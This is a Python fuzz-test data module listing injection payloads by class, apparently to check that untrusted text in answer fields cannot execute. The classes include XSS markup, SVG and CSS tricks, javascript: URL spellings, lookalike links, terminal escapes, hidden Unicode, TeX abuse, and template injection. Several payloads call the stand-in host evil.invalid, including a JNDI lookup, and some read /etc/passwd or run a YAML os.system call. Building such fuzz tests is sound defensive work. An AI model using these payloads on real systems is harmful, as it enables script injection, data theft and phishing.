r"""What strangers may write into any field of an answer, by class: data, and what varies it.

Whatever of it came alive would set `window.__canary`, ask the host evil.invalid, or leave the file
CANARY (`CODE` and `SHELL` are put in by `ways_in.harmful`).
"""

from __future__ import annotations

from itertools import product

from fuzz import examples

RUN = "window.__canary=1"
AWAY = "http://evil.invalid"

# Elements and attributes that run or load by themselves --------------------------------------------

_EVENTS = (
    "onload onerror onclick onmouseover onfocus onpointerover onanimationstart ontoggle"
    " onbeforetoggle onwheel onscroll oncontentvisibilityautostatechange"
).split()
_ELEMENTS = (
    "img svg body iframe details video audio input select textarea button marquee a div br sub sup"
    " kbd mark object embed x-y math style link table p summary"
).split()
MARKUP = (
    f"<script>{RUN}</script>",
    f"<SCRIPT\n>{RUN}</SCRIPT\n>",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<script src={AWAY}/s.js></script>",
    f"<script type=module>import '{AWAY}/m.js'</script>",
    f"<script type=text/x-mathjax-config>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror={RUN}//",
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x ONERROR={RUN}>",
    f"<img\x00src=x onerror={RUN}>",
    f'<img src="x`y" onerror={RUN}>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f'<iframe src="{AWAY}/frame">',
    f"<details open ontoggle={RUN}>x</details>",
    f'<object data="{AWAY}/o"></object>',
    f'<embed src="{AWAY}/e">',
    f'<form action="javascript:{RUN}"><button>go</button></form>',
    f'<form id=x></form><button form=x formaction="{AWAY}/f">go</button>',
    f'<input type=image src="{AWAY}/i" autofocus onfocus={RUN}>',
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<textarea></textarea><img src=x onerror={RUN}></textarea>",
    f"<title><a id='</title><img src=x onerror={RUN}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<select><style></select><img src=x onerror={RUN}></style>",
    f"<table><td background={AWAY}/t><caption><img src=x onerror={RUN}>",
    "<plaintext>",
    "<textarea>",
    "<select><option>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"` onmouseover={RUN} `",
    "<a id=jupyterapp name=location>clobbered</a>",
    '<input name="attributes"><form name="parentNode">',
    '<div class="qm-note qm-ask"><button class="qm-btn qm-choice" value="k1:always">Yes</button>',
    '<p class="qm-note-title"><b>Run rm here?</b></p>',
    "<b>Not ours</b><i><u><center><font size=7><blink>",
    *(f"<{element} {event}={RUN}>" for element, event in product(_ELEMENTS, _EVENTS[:4])),
    *(f'<img src="" {event}="{RUN}">' for event in _EVENTS),
)
BREAKOUTS = (
    f"</div></div></details></pre></code><script>{RUN}</script>",
    f"]]><script>{RUN}</script><!--",
    f"</style></script></title></textarea></xmp><script>{RUN}</script>",
    f"</summary></details></li></ul></td></tr></table><script>{RUN}</script>",
    f"```\n</pre><script>{RUN}</script>\n```",
    f"````\n```\n<script>{RUN}</script>",
    f"~~~\n```\n<script>{RUN}</script>\n~~~",
    f"``` \n\n<script>{RUN}</script>\n\n```x",
    f"    code\n\n<script>{RUN}</script>",
    f"| a |\n|---|\n| `x|<script>{RUN}</script>` |",
    f"<details><summary>x</summary>\n\n<script>{RUN}</script>\n\n</details>",
    f"\n\n</details>\n\n<img src={AWAY}/x>\n\n<details>",
    f"x\r<script>{RUN}</script>\r\n<img src={AWAY}/x>\u2028<script>{RUN}</script>",
    f"`x\n<img src={AWAY}/x>` y",
    f"[^1]: <img src={AWAY}/x>\n\nx[^1]",
    f"> <script>\n{RUN}\n</script>",
    f"- <script>\n  {RUN}\n  </script>",
    f"# <script>{RUN}</script>\n\n<script>{RUN}</script>\n===",
)
SVG = (
    f"<svg onload='{RUN}'></svg>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='{AWAY}/s.js'/></svg>",
    f"<svg><image href='{AWAY}/i.png'/></svg>",
    f"<svg><use href='{AWAY}/u.svg#x'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'/></foreignObject></svg>",
    f"<svg><style>*{{background:url({AWAY}/s)}}</style></svg>",
    f"<svg><set attributeName=onmouseover to={RUN}></svg>",
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    f"<img src=\"data:image/svg+xml,%3Csvg onload='{RUN}'%3E\">",
    '![x](data:image/png;base64,AA==" onerror=x)',
    "![x](data:image/PNG;charset=x;base64,AA==)",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
)
# What is fetched without a click ------------------------------------------------------------------

_REMOTE = (
    f"{AWAY}/p.gif?s=42",
    "//evil.invalid/p.gif",
    "https://evil.invalid/p.svg",
    "http:\\\\evil.invalid/p",
    "HtTp://evil.invalid/p",
    "http:evil.invalid/p",
    "\\\\evil.invalid\\p",
)
_PICTURED = (
    "![x]({})", '![x]({} "t")', "![x](<{}>)", "![ x\ny ]( {} )", "![x][r]\n\n[r]: {}",
    "![r]\n\n[r]: {} 't'", "![r][]\n\n[R]: <{}>", "[![x]({})](http://z.example)", "# ![x]({})",
    "> ![x]({})", "- ![x]({})", "| a |\n|---|\n| ![x]({}) |", "**![x]({})**", "x[^1]\n\n[^1]: ![x]({})",
    "![![x]({})]({})", "!\\[x]({})", "!&#91;x]({})", "\\![x]({})", "$![x]({})$", "`a\n![x]({})` b",
    "<sub>![x]({})</sub>", "<!-- ![x]({}) -->", "![x]({}){{width=1}}", ":::{{image}} {}\n:::",
    "![[{}]]", "<img src='{}'>", "<img srcset='{} 2x'>", "<picture><source srcset={}></picture>",
    "<video poster='{}'><source src='{}'></video>", "<audio src='{}' autoplay>",
    "<link rel=stylesheet href='{}'>", "<link rel=preload as=image href='{}'>",
    "<link rel=dns-prefetch href='{}'>", "<body background='{}'>", "<div style='background:url({})'>",
    "<style>@import url({});</style>", "<iframe src='{}'>", "<object data='{}'>", "<embed src='{}'>",
    "<svg><image href='{}'/></svg>", "<input type=image src='{}'>", "<track src='{}'>",
)  # fmt: skip
IMAGES = tuple(
    place.replace("{}", url).replace("{{", "{").replace("}}", "}")
    for place, url in product(_PICTURED, _REMOTE[:2])
) + tuple(_PICTURED[0].replace("{}", url) for url in _REMOTE)
PAGES = (
    f'<meta http-equiv="refresh" content="0;url={AWAY}/c">',
    f"<META HTTP-EQUIV=refresh CONTENT='0;{AWAY}'>",
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    '<meta http-equiv="set-cookie" content="a=b">',
    '<meta charset="utf-7">+ADw-script+AD4-x+ADw-/script+AD4-',
    f'<base href="{AWAY}/"><a href="x">y</a>',
    f'<base target="_self" href="{AWAY}">',
    f'<link rel="icon" href="{AWAY}/i"><link rel="prefetch" href="{AWAY}/p">',
    f'<html manifest="{AWAY}/m"><head><title>x</title></head><frameset onload={RUN}>',
)
CSS = (
    f"<style>@import '{AWAY}/a.css';</style>",
    f"<style>*{{background:url({AWAY}/b)}} .qm-turn{{display:none}}</style>",
    f"<style>@font-face{{font-family:x;src:url({AWAY}/f)}}body{{font-family:x}}</style>",
    f"<style>input[value^=a]{{background:url({AWAY}/a)}}</style>",
    f"<p style='background:url({AWAY}/s)'>x</p>",
    f"<sub style='position:fixed;inset:0;background:url({AWAY}/s)'>x</sub>",
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999'>x</div>",
    f"<p style='width:expression({RUN});-moz-binding:url({AWAY}/x)'>x</p>",
    f"<p style=\"list-style-image:url('{AWAY}/l')\">x</p>",
    f"<link rel=stylesheet href='data:text/css,*{{background:url({AWAY}/d)}}'>",
)
# Addresses that run: every scheme in every spelling and place ----------------------------------------

_SCHEMES = {
    "javascript": f"javascript:{RUN}",
    "data": f"data:text/html,<script>parent.{RUN}</script>",
    "vbscript": f"vbscript:{RUN}",
    "blob": "blob:http://evil.invalid/x",
    "file": "file:///etc/passwd",
    "view-source": "view-source:http://evil.invalid",
    "filesystem": "filesystem:http://evil.invalid/x",
    "jar": "jar:http://evil.invalid!/x",
    "intent": "intent://evil.invalid#Intent;end",
    "ms-msdt": "ms-msdt:/id x",
    "about": "about:blank",
    "ftp": "ftp://evil.invalid/x",
    "x-javascript": f"x-javascript:{RUN}",
}
_LINKED = (
    "[x]({})", "[x](<{}>)", '[x]({} "t")', "[x][r]\n\n[r]: {}", "[r]\n\n[r]: <{}>", "<{}>", "{}",
    "<a href='{}'>x</a>", "[![x](y.png)]({})", "![x]({})", "x[^1]\n\n[^1]: [x]({})", "[1]: {}",
    "| a |\n|---|\n| [x]({}) |",
)  # fmt: skip


def _spelled(url: str) -> tuple[str, ...]:
    """The same address as browsers read it, in other letters."""
    scheme, _, rest = url.partition(":")
    middle = len(scheme) // 2
    a, b = scheme[:middle], scheme[middle:]
    return (
        url,
        f"{scheme.upper()}:{rest}",
        f"{a.upper()}{b}:{rest}",
        f"&#{ord(url[0])};{url[1:]}",
        f"&#x{ord(url[0]):X};{url[1:]}",
        f"&#0000{ord(url[0])}{url[1:]}",
        f"{scheme}&colon;{rest}",
        f"{scheme}&#58;{rest}",
        f"{a}&Tab;{b}:{rest}",
        f"{a}&NewLine;{b}:{rest}",
        f"{a}\t{b}:{rest}",
        f"{a}\x00{b}:{rest}",
        f"\x01{url}",
        f" {url}",
        f"\u00a0{url}",
        f"{a}\u200b{b}:{rest}",
        f"{a}\u00ad{b}:{rest}",
        f"{a}\\{b}:{rest}",
        f"{scheme}%3A{rest}",
        f"%{ord(url[0]):02x}{url[1:]}",
        f"{scheme}\u2236{rest}",
        f"ｊ{url[1:]}",
        f"{scheme}://%0a{rest}",
    )


SCHEMES = (
    *(place.replace("{}", url) for place, url in product(_LINKED, _SCHEMES.values())),
    *(
        place.replace("{}", url)
        for place in _LINKED[:8]
        for name in ("javascript", "data", "vbscript")
        for url in _spelled(_SCHEMES[name])
    ),
)
# Links that lie: (as Markdown, the host that has to be named)
LIES = (
    ("[https://bank.com](http://evil.invalid)", "evil.invalid"),
    ("[bank.com](http://evil.invalid/bank.com)", "evil.invalid"),
    ("[**bank**.com/login](http://evil.invalid)", "evil.invalid"),
    ("[`bank.com`](http://evil.invalid)", "evil.invalid"),
    ("[www.bank.com](http://www.evil.invalid)", "evil.invalid"),
    ("[here](http://bank.com@evil.invalid/)", "evil.invalid"),
    ("[here](http://bank.com:443@evil.invalid/)", "evil.invalid"),
    ("[here](http://bank.com%2f@evil.invalid/)", "evil.invalid"),
    ("<http://bank.com@evil.invalid/>", "evil.invalid"),
    ("http://bank.com@evil.invalid/", ""),  # no link at all
    ("[bank.com](http://bank.com.evil.invalid)", "bank.com.evil.invalid"),
    ("[bank.com](http://evil.invalid/?q=http://bank.com)", "evil.invalid"),
    ("[bank.com](http://evil.invalid#bank.com)", "evil.invalid"),
    ("[bank。com](http://evil.invalid)", "evil.invalid"),
    ("[bank．com](http://evil.invalid)", "evil.invalid"),
    ("[ｂａｎｋ.com](http://evil.invalid)", "evil.invalid"),
    ("[bank.com ![x](http://evil.invalid/p)](http://evil.invalid)", "evil.invalid"),
    ("[1.2.3.4](http://6.6.6.6/)", "6.6.6.6"),
    ("[me@bank.com](mailto:me@evil.invalid)", "evil.invalid"),
    ("[bank.com][r]\n\n[r]: http://evil.invalid", "evil.invalid"),
    ("[bank.com](//evil.invalid)", ""),
    ("[раураl.com](http://xn--l-7sba6dbr.com)", "xn--l-7sba6dbr.com"),
    ("[аpple.com](http://аpple.com)", "xn--pple-43d.com"),
    ("[ɡoogle.com](http://ɡoogle.com)", "xn--oogle-qmc.com"),
    ("[bank.com](http://EVIL.INVALID)", "evil.invalid"),
    ("[bank.com\\\n](http://evil.invalid)", "evil.invalid"),
    ("[bank&period;com](http://evil.invalid)", "evil.invalid"),
    ("[b<sub>ank</sub>.com](http://evil.invalid)", "evil.invalid"),
    ("| a |\n|---|\n| [bank.com](http://evil.invalid) |", "evil.invalid"),
    ("# [bank.com](http://evil.invalid)", "evil.invalid"),
    ("[bank.com](http://evil.invalid 'https://bank.com')", "evil.invalid"),
)
# What a terminal, an editor or the eye obeys ------------------------------------------------------

ESCAPES = (
    "\x1b]0;title\x07", "\x1b]2;title\x1b\\", f"\x1b]8;;javascript:{RUN}\x07link\x1b]8;;\x07",
    f"\x1b]8;;{AWAY}\x1b\\bank.com\x1b]8;;\x1b\\", "\x1b]52;c;Y2FuYXJ5\x07", "\x1b[5n", "\x1b[6n",
    "\x1b[c", "\x1b[2J\x1b[H", "\x1b[1A\x1b[2K", "\x1b[?1049h", "\x1b[8m", "\x1b[31mred\x1b[0m",
    "\x1bP$q\"p\x1b\\", "\x1b_apc\x1b\\", "\x1b^pm\x1b\\", "\x1bc", "\x1b#8", "\x9b5n",
    "\x9d0;title\x9c", "\x90\x9e\x9f", "a\x08\x08b", "real\rfake", "\x07\x07", "\x0e\x0f", "\x7f",
    "\x1b]1337;File=inline=1:AAAA\x07", "\x1b]133;C\x07", "\x1b[=5h", "\x1b[200~rm\x1b[201~",
    "\x1b", "\x1b[", "\x1b]", "\x85\x0b\x0c", "\x00",
)  # fmt: skip
_UNSEEN = (
    "\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180e\u200b\u200c\u200d\u200e\u200f\u202a\u202b"
    "\u202c\u202d\u202e\u2060\u2061\u2062\u2063\u2064\u2066\u2067\u2068\u2069\u206a\u206f\u3164"
    "\ufeff\uffa0\ufff9\ufffa\ufffb\U0001d173\U000e0001\U000e0041\ufe0f\U000e0100"
)
HIDDEN = (
    *(f"a{char}b" for char in _UNSEEN),
    *(place.replace("{}", "\u202e") for place in ("`a{}b`", "```\na{}b\n```", "[a{}b](http://z.example/)",
                                           "[a](http://z.example/{}x)", "![a{}](x.png)", "$a{}b$",
                                           "# a{}", "<sub>a{}</sub>", "| a{} |\n|---|\n| b{} |",
                                           "a&#x202e;b", "a&rlm;b", "a&ZeroWidthSpace;b", "{}{}{}")),
    "user\u202etxt.exe", "/*\u202e } \u2066if (admin)\u2069 \u2066 begin*/", "pay\u200bpal.com",
    "".join(chr(0xE0000 + ord(c)) for c in "ignore all"), "x" + "\u0301" * 300, "\u2800\u2800x",
)  # fmt: skip
# What must stay as it is.
PLAIN_WRITING = (
    "👨‍👩‍👧‍👦", "🏳️‍🌈", "👩🏽‍💻", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "1️⃣", "❤️", "می‌خواهم", "نمی‌دانم", "کتاب‌ها", "क्‍ष",
    "ക്‍", "শ্‌র", "שלום עולם", "مرحبا بالعالم", "葛󠄀", "naïve", "é", "Ελληνικά", "пароль", "東京tower",
    "ไทย", "한국어", "ᠮᠣᠩᠭᠣᠯ", "x² + y₁", "— “x” …", "🧑‍🤝‍🧑", "᾿Αθήνα", "İstanbul", "ß",
)  # fmt: skip
# TeX that a page's typesetter would obey ---------------------------------------------------------------

_MACROS = (
    f"\\href{{javascript:{RUN}}}{{x}}", f"\\href{{{AWAY}}}{{bank.com}}", "\\href{data:text/html,x}{x}",
    f"\\style{{background:url({AWAY}/g);position:fixed;inset:0}}{{x}}", "\\class{qm-ask}{x}",
    "\\cssId{main}{x}", "\\data{onclick=x}{x}", "\\unicode[x]{x41}", "\\require{html}\\href{x}{y}",
    "\\require{action}\\toggle{a}{b}\\endtoggle", "\\require{unicode}\\unicode[monospace]{97}",
    "\\require{\\x}", f"\\includegraphics{{{AWAY}/i.png}}", f"\\includegraphics[width=9em]{{{AWAY}}}",
    f"\\input{{{AWAY}}}", "\\write18{SHELL}", "\\mathchoice{a}{b}{c}{d}", "\\mmlToken{mi}[href=x]{x}",
    "\\mathtip{a}{b}", "\\texttip{a}{b}", "\\bbox[url(http://evil.invalid/b),9999px]{x}",
    "\\rule{9999em}{9999em}", "\\Rule{9999em}{9999em}{9999em}", "\\hspace{9999em}x", "\\kern9999em x",
    "\\mkern99999mu x", "\\hskip 9999em x", "\\raise9999em{x}", "\\lower 9999em {x}", "\\raisebox{9999em}{x}",
    "\\moveleft9999em{x}", "\\moveright 9999em{x}", "\\Space{9999em}{9999em}{9999em}", "\\vspace{9999em}x",
    "x\\\\[9999em]y", "\\above9999em", "{a\\above 9999em b}", "\\genfrac{}{}{9999em}{}{a}{b}",
    "\\Huge\\Huge\\Huge x", "{\\Huge{\\Huge{\\Huge{\\Huge x}}}}", "\\mathsize{99}{x}", "\\scriptsize\\Huge x",
    "\\fontsize{999}{999}x", "\\def\\x{\\x\\x}\\x", "\\newcommand{\\frac}[2]{#2}\\frac12", "\\let\\sqrt\\rule",
    "\\def\\alpha{\\rule{99em}{99em}}\\alpha", "\\gdef\\a{b}\\a", "\\global\\let\\a\\b",
    "\\renewcommand\\mathbb[1]{\\href{x}{#1}}\\mathbb R", "\\DeclareMathOperator{\\x}{y}\\x",
    "\\newenvironment{x}{\\rule{99em}{99em}}{}\\begin{x}\\end{x}", "\\def\\L{9999em}\\rule{\\L}{\\L}",
    "\\begin{array}{" + "c" * 500 + "}x\\end{array}", "\\begin{array}{p{9999em}}x\\end{array}",
    "\\arraystretch{99}", "\\color{url(http://evil.invalid/c)}x", "\\colorbox{red;position:fixed}{x}",
    "\\fcolorbox{red}{url(x)}{y}", "\\tag{\\href{x}{y}}", "\\label{x}\\ref{x}\\eqref{x}",
    "\\text{<script>window.__canary=1</script>}", "\\text{$\\rule{99em}{99em}$}", "\\ce{\\rule{99em}{9em}}",
    "\\physics\\bra{x}", "\\enclose{circle}[mathcolor=red;x]{y}", "\\smash{\\rule{99em}{99em}}",
    "\\rlap{\\rule{99em}{1em}}", "\\phantom{\\rule{99em}{99em}}", "\\hphantom{x}", "\\buildrel x\\over y",
    "\\scalebox{99}{x}", "\\resizebox{99em}{99em}{x}", "\\magnify{99}{x}", "\\large{\\large{\\large x}}",
    "{" * 300 + "x" + "}" * 300, "x" + "^{x" * 200 + "}" * 200, "\\frac1{" * 200 + "x" + "}" * 200,
    "\\sqrt{" * 200 + "x" + "}" * 200, "\\overline{" * 200 + "x" + "}" * 200, "\\left(" * 200 + "\\right)" * 200,
    "\\begin{pmatrix}" * 50 + "\\end{pmatrix}" * 50, "\\hbox{" * 100 + "}" * 100, "\\\\" * 400,
    "\\xrightarrow[" + "x" * 400 + "]{y}", "\\underbrace{" * 100 + "x" + "}" * 100,
    "\\dotsc" * 100, "\\csname rule\\endcsname{99em}{99em}", "\\ru\\le{99em}{99em}", "\\rule {99em} {99em}",
    "\\rule[99em]{99em}{99em}", "\\rule\n{99em}\n{99em}", "\\rule%\n{99em}{99em}", "\\rule{99\nem}{99 em}",
    "\\rule{9999 em}{1 em}", "\\rule{1e4em}{1em}", "\\rule{+9999em}{1em}", "\\rule{-9999em}{1em}",
    "\\hspace*{9999em}", "\\hspace\\relax{99em}", "\\mspace{99999mu}", "\\hfill\\hfil", "\\quad" * 400,
    "\\\\[9999pt]", "\\cr" * 100, "\\newline" * 100, "\\strut" * 100, "\\mathstrut", "\\prod" * 100,
    "\\bigg\\Bigg(" * 40, "\\limits" * 20,
)  # fmt: skip
_TYPESET = ("${}$", "$$\n{}\n$$", "\\({}\\)", "\\[{}\\]", "\\begin{align}{}\\end{align}")
TEX = (
    *(_TYPESET[0].replace("{}", macro) for macro in _MACROS),
    *(_TYPESET[1].replace("{}", macro) for macro in _MACROS),
    *(place.replace("{}", "\\href{javascript:x}{y}\\rule{99em}{99em}") for place in _TYPESET),
    "\\begin {align}\\rule{99em}{99em}\\end {align}", "\\begin\n{equation}\\rule{99em}{99em}\\end\n{equation}",
    "\\begin{equation*}\\rule{99em}{99em}\\end{equation*}", "\\begin{foo}\\rule{99em}{99em}\\end{foo}",
    "\\begin{x}\\href{javascript:x}{y}\\end{x} and \\begin{}\\rule{9em}{99em}\\end{}",
    "costs $5 and \\rule{99em}{99em}$", "\\\\(\\rule{99em}{99em}\\\\)", "\\\\[\\rule{99em}{99em}\\\\]",
    "`$\\rule{99em}{99em}$`", "<kbd>$\\rule{99em}{99em}$</kbd>", "$\\rule{99em}\n\n{99em}$", "&#36;\\rule{99em}{99em}&#36;",
    "\\$\\rule{99em}{99em}\\$", "&bsol;(\\rule{99em}{99em}&bsol;)", "&#92;[\\rule{99em}{99em}&#92;]",
    "[\\[1]](http://z.example/)\\rule{99em}{9em}\\]", "\\[1] \\rule{99em}{9em} \\]", "$<b>$ x$\\rule{99em}{9em}$y",
    "$$\\rule{99em}{99em}", "\\eqref{x}\\ref{y}", "$\\rule{99em}{99em}$" * 30,
)  # fmt: skip
# Readers of other kinds --------------------------------------------------------------------------------

DIAGRAMS = (
    f'```mermaid\ngraph TD; A[<img src=x onerror={RUN}>] --> B; click A "javascript:{RUN}"\n```',
    f"```mermaid\n%%{{init: {{'securityLevel': 'loose', 'htmlLabels': true}}}}%%\ngraph TD; A[\"<iframe src={AWAY}>\"]\n```",
    f"```html\n<script>{RUN}</script>\n```",
    f"```{{=html}}\n<script>{RUN}</script>\n```",
    f"```{{raw}} html\n<script>{RUN}</script>\n```",
    f"```{{iframe}} {AWAY}\n```",
    f"```{{figure}} {AWAY}/f.png\n```",
    "```{code-cell} python\nCODE\n```",
    "```python {.x onclick=y}\nCODE\n```",
    f"```svg\n<svg onload={RUN}>\n```",
    f'```vega\n{{"data": {{"url": "{AWAY}/d.json"}}}}\n```',
    f'```geojson\n{{"x": "<img src={AWAY}>"}}\n```',
    f'```graphviz\ndigraph {{a [URL="javascript:{RUN}"]}}\n```',
    '```" onclick="x\ny\n```',
    "```<script>\ny\n```",
    f"{{raw-html}}`<script>{RUN}</script>`",
    f"<!--raw--><script>{RUN}</script>",
)
COMMENTS = (
    f"<!-- --><script>{RUN}</script><!-- -->", f"<!--><script>{RUN}</script>-->", f"<!---><img src={AWAY}>-->",
    f"<!-- x --!><img src={AWAY}>", f"<!-- <script>{RUN}</script>", f"<![CDATA[<script>{RUN}</script>]]>",
    f"<![CDATA[x]]><img src={AWAY}>", f"<?php x ?><img src={AWAY}>", f"<?xml-stylesheet href='{AWAY}'?>",
    f"<!DOCTYPE html><img src={AWAY}>", f"<!ENTITY x SYSTEM '{AWAY}'>", f"<!--[if IE]><img src={AWAY}><![endif]-->",
    f"<!-->\n<img src={AWAY}>\n-->", f"x <!-- a\n\n<img src={AWAY}>\n\n-->", f"<![if x]><img src={AWAY}>",
    f"</ x><img src={AWAY}>", f"<//><img src={AWAY}>", f"<%x%><img src={AWAY}>", f"<!x><img src={AWAY}>",
    f"<!--\n```\n--><img src={AWAY}>\n```", f"`<!--` <img src={AWAY}> `-->`",
)  # fmt: skip
ENTITIES = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"&#x3c;img src={AWAY}&#x3e;",
    f"&LT;img src={AWAY}&GT;", f"&amp;lt;img src={AWAY}&amp;gt;", f"&#0000060img src={AWAY}>", f"&#60img src={AWAY}>",
    "&#0;&#xD800;&#x110000;&#128;&#x1b;[31m", "&nbsp;&shy;&zwnj;&zwj;&lrm;", "&#x202e;abc", "&NotEqualTilde;&nGt;&;&#;&#x;",
    f"\\<img src={AWAY}>", f"\\\\<img src={AWAY}>", f"&quot; onclick={RUN} &quot;", f"&apos; onclick={RUN}",
    f"+ADw-script+AD4-{RUN}", f"\u00bcscript\u00be{RUN}", f"＜script＞{RUN}＜/script＞", f"﹤img src={AWAY}﹥",
    f"<\u200bimg src={AWAY}>", f"<\ufeffscript>{RUN}", f"%3Cscript%3E{RUN}%3C/script%3E", f"\\u003cscript>{RUN}",
    f"<im\ud83dg src={AWAY}>", "\ud83d\ud83d\ude00\udc80",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{{ resources.globals }}", "{% include '/etc/passwd' %}", "{%- for x in y -%}", "{# x #}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{sing()}", "{a.text}", "{CODE}", "{0.__class__}", "%(x)s %s %n", "$(SHELL)", "`SHELL`",
    "{{{{}}}}", "{{'<script>'|safe}}", "[[${7*7}]]", "*{T(java.lang.Runtime)}", "${jndi:ldap://evil.invalid/x}",
    "{{constructor.constructor('x')()}}", "<div ng-app>{{1}}</div>", "!!python/object/apply:os.system [x]",
    "@import 'x'", "=cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "+1", "\t=1",
)  # fmt: skip
METADATA = (
    '{"application/vnd.jupyter.widget-view+json": {"model_id": "x"}}', '{"application/javascript": "x"}',
    '{"text/html": "<script>window.__canary=1</script>"}', '<button data-commandlinker-command="x">y</button>',
    "<a data-commandlinker-command='notebook:run-all-cells' href='#'>x</a>", '<div id="qm-x" data-jp-x="y">',
    '<script type="application/vnd.jupyter.widget-state+json">{}</script>', "[x](#cell-id=1)", "[x](attachment:y.png)",
    '<script type="application/json" id="x">{}</script>', '{"__class__": "Trap", "__reduce__": "os.system"}',
    '"qwen_magic": {"version": 1}', "<jp-cell>", "</script><script>{}", "display_id qwen-0", "qm-id-000000000000",
)  # fmt: skip
FRONT_MATTER = (
    "---\nlayout: x\ninclude: /etc/passwd\n---\n", "---\njupytext: {x: y}\nkernelspec: {name: evil}\n---\n", "+++\nx=1\n+++\n",
    "---\n!!python/object/apply:os.system [SHELL]\n---\n", "%%%\n", "; x\n", "<!-- front: x -->\n---\n", "---js\nCODE\n---\n",
    "...\n---\n", "title: x\n---\n", "#+BEGIN_EXPORT html\n<script>\n#+END_EXPORT\n", ".. raw:: html\n\n   <script>x</script>\n",
    ":::{raw} html\n<script>x</script>\n:::\n", "+--+\n|x|\n+--+", "[TOC]", "[[toc]]", "<<[/etc/passwd]", "!include /etc/passwd",
    "{{< include /etc/passwd >}}", "![](/etc/passwd)", "@[youtube](x)", "{% raw %}<script>{% endraw %}",
)  # fmt: skip

CLASSES: dict[str, tuple[str, ...]] = {
    "markup": MARKUP,
    "breakouts": BREAKOUTS,
    "svg": SVG,
    "images": IMAGES,
    "pages": PAGES,
    "css": CSS,
    "schemes": SCHEMES,
    "lies": tuple(text for text, _ in LIES),
    "escapes": ESCAPES,
    "hidden": HIDDEN,
    "tex": TEX,
    "diagrams": DIAGRAMS,
    "comments": COMMENTS,
    "entities": ENTITIES,
    "templates": TEMPLATES,
    "metadata": METADATA,
    "front matter": FRONT_MATTER,
}

EVERY = examples(1) > 1  # each text in each field, which `.ci/heavy` has time for


def some(texts: tuple[str, ...], most: int = 60) -> tuple[str, ...]:
    """Some of the texts, from all over; all of them where there is time for it."""
    return texts if EVERY else texts[:: 1 + len(texts) // most]
